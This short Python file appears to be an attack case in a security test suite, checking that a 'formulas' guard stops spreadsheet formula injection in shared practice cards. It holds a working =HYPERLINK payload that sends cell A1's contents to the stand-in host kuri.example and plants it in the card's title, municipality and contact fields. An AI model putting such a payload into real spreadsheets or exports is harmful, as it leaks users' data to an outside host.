from __future__ import annotations

import json
from typing import Any

TRIES = "A shared practice card whose title a spreadsheet would take for a formula and run."
NAMED = "formula"
GUARD = "formulas"
TEXT = '=HYPERLINK("http://kuri.example/?"&A1,"vajuta siia")'


def attack(evil: Any) -> None:
    card = {"title": TEXT, "municipality": TEXT, "contact": TEXT, "consent": "named"}
    evil.entry(evil.as_log([evil.line("tegevuskava", "card:kuri", json.dumps(card))]), "tegevuskava")
